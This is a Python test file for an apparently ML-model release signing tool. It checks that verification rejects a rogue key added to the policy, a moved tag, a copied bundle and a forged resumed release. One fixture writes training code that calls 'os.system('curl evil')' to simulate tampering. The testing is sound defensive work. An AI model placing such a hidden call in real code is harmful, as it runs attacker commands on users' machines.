"""A release is the ledger's release commit on the governed branch, judged by that branch.

- A CI checkout that lacks the governed branch has no reviewed policy: verify refuses
  (exit 2) instead of trusting the merge request's own policy and keys.
- A release tag force-moved onto a cherry-pick of the release commit (another tree, same
  trailers and bundle) is not the release.
- ``release`` finishes a crashed release only from a HEAD commit whose bundle verifies.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from signing_helpers import make_keypair, run

from archivist.release.sign import SigningRequest, sign_bundle
from realrepo import Repo


def _release(repo: Repo, key: Path, version: str = "v1.0.0"):  # type: ignore[no-untyped-def]
    proc = repo.archivist("release", "clf", version, "--key", key, "--json")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return json.loads(proc.stdout)


def test_ci_checkout_without_the_governed_branch_is_refused(sample, keys, tmp_path) -> None:
    _release(sample, keys.private)
    # The merge request: its policy also trusts the attacker's key, and it ships a
    # release signed with that key. main itself stays as reviewed.
    reviewed = sample.head()
    attacker = make_keypair(tmp_path / "attacker", "attacker")
    sample.write("keys/attacker.pub", attacker.public_pem)
    sample.write("archivist.yaml", sample.read("archivist.yaml").replace(
        "public_keys: [keys/release.pub]", "public_keys: [keys/release.pub, keys/attacker.pub]"))
    sample.commit("trust my key too")
    _release(sample, attacker.private, "v2.0.0")
    sample.git("branch", "mr")
    sample.git("reset", "-q", "--hard", reviewed)
    # CI checks out the request alone (no main, no origin/main).
    ci = tmp_path / "ci"
    run(["git", "clone", "-q", "--single-branch", "--branch", "mr", str(sample.root),
         str(ci)], tmp_path)
    assert run(["git", "branch", "-a"], ci).stdout.split() == ["*", "mr",
                                                                "remotes/origin/mr"]
    proc = run(["archivist", "verify"], ci, check=False)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    err = proc.stderr.strip().splitlines()
    assert len(err) == 1 and "'main' is not in this clone" in err[0]
    assert "git fetch origin main" in err[0] and "--policy-ref" in err[0]
    assert "ok" not in proc.stdout
    # Fetched, the governed branch judges the request: the attacker's release fails.
    run(["git", "fetch", "-q", "origin", "main:refs/remotes/origin/main"], ci)
    proc = run(["archivist", "verify", "--json"], ci, check=False)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    verdicts = {r["tag"]: r["status"] for r in json.loads(proc.stdout)["releases"]}
    assert verdicts == {"clf@v1.0.0": "ok", "clf@v2.0.0": "moved"}  # not on main at all
    problems = next(r["problems"] for r in json.loads(proc.stdout)["releases"]
                    if r["tag"] == "clf@v2.0.0")
    assert any("not among signing.public_keys" in p for p in problems), problems


def test_tag_moved_onto_a_cherry_pick_of_the_release_commit(sample, keys) -> None:
    sample.write("train.py", "lr = 0.1\n")
    sample.commit("training code")
    _release(sample, keys.private)
    release_commit = sample.head()
    # A copy of the release commit on another base, whose training code differs.
    sample.git("switch", "-q", "-c", "evil", "HEAD~1")
    sample.write("train.py", "lr = 0.1\nimport os; os.system('curl evil')\n")
    sample.commit("tweak")
    sample.git("cherry-pick", "--allow-empty", release_commit)
    copy = sample.head()
    assert sample.git("show", "-s", "--format=%(trailers:key=Archivist-Event,valueonly)",
                      copy).stdout.strip() == "release"
    message = sample.git("tag", "-l", "--format=%(contents)", "clf@v1.0.0").stdout
    sample.git("tag", "-f", "-a", "clf@v1.0.0", "-m", message, copy)
    sample.git("switch", "-q", "main")
    proc = sample.archivist("verify", "--json")
    assert proc.returncode == 1, proc.stdout
    (outcome,) = json.loads(proc.stdout)["releases"]
    assert outcome["status"] == "moved" and outcome["commit"] == copy
    assert any("not on the governed branch's first-parent history" in p
               for p in outcome["problems"])
    # Moved back, it verifies again.
    sample.git("tag", "-f", "-a", "clf@v1.0.0", "-m", message, release_commit)
    assert sample.archivist("verify").returncode == 0


def test_tag_on_a_commit_that_only_adds_the_bundle(sample, keys) -> None:
    """A person's commit that adds a copied bundle, without the ledger's release trailers."""
    out = _release(sample, keys.private)
    bundle = (sample.root / out["bundle"]).read_bytes()
    message = sample.git("tag", "-l", "--format=%(contents)", "clf@v1.0.0").stdout
    sample.git("rm", "-q", "--", out["bundle"])
    sample.commit("drop the bundle")
    sample.write(out["bundle"], bundle)
    plain = sample.commit("add it back")
    sample.git("tag", "-f", "-a", "clf@v1.0.0", "-m", message, plain)
    proc = sample.archivist("verify", "--json")
    (outcome,) = json.loads(proc.stdout)["releases"]
    assert proc.returncode == 1 and outcome["status"] == "moved"
    assert any("no Archivist-Event: release trailer" in p for p in outcome["problems"])


def test_resume_only_from_a_release_commit_whose_bundle_verifies(sample, keys,
                                                                  tmp_path) -> None:
    out = _release(sample, keys.private)
    sample.git("tag", "-d", "clf@v1.0.0")  # as if the release crashed before tagging
    # HEAD keeps the release trailers and event, but its bundle is another key's.
    other = make_keypair(tmp_path / "other", "other")
    digest = hashlib.sha256((sample.root / "models/clf.pkl").read_bytes()).hexdigest()
    forged = sign_bundle(SigningRequest("key", key=other.private), "clf.pkl", {".": digest},
                         {"tag": "clf@v1.0.0", "name": "clf", "artifact": "models/clf.pkl",
                          "version": out["version"]})
    (sample.root / out["bundle"]).write_bytes(forged)
    sample.git("add", "--", out["bundle"])
    sample.git("commit", "-q", "--amend", "--no-edit", "--no-verify")
    head = sample.head()
    proc = sample.archivist("release", "clf", "v1.0.0", "--key", keys.private)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "does not verify" in proc.stderr and "not among signing.public_keys" in proc.stdout
    assert sample.git("tag", "-l").stdout.strip() == ""  # nothing tagged
    assert sample.head() == head


def test_a_remote_without_credentials_is_one_setup_line(sample, keys) -> None:
    """A fork's CI job without the secret: exit 2 naming the remote, not a crash."""
    _release(sample, keys.private)
    for path in (sample.root / ".dvc" / "cache").rglob("*"):
        if path.is_file():
            path.chmod(0o644)
            path.unlink()
    sample.dvc("remote", "add", "-d", "s3store", "s3://models/dvc")
    sample.dvc("remote", "modify", "s3store", "endpointurl", "http://127.0.0.1:9")
    env = {"AWS_EC2_METADATA_DISABLED": "true", "AWS_ACCESS_KEY_ID": "",
           "AWS_SECRET_ACCESS_KEY": "", "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent",
           "AWS_CONFIG_FILE": "/nonexistent"}
    proc = sample.archivist("verify", env=env)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "remote 's3store'" in lines[0], proc.stderr
    assert "AWS_ACCESS_KEY_ID" in lines[0] and "internal error" not in proc.stderr
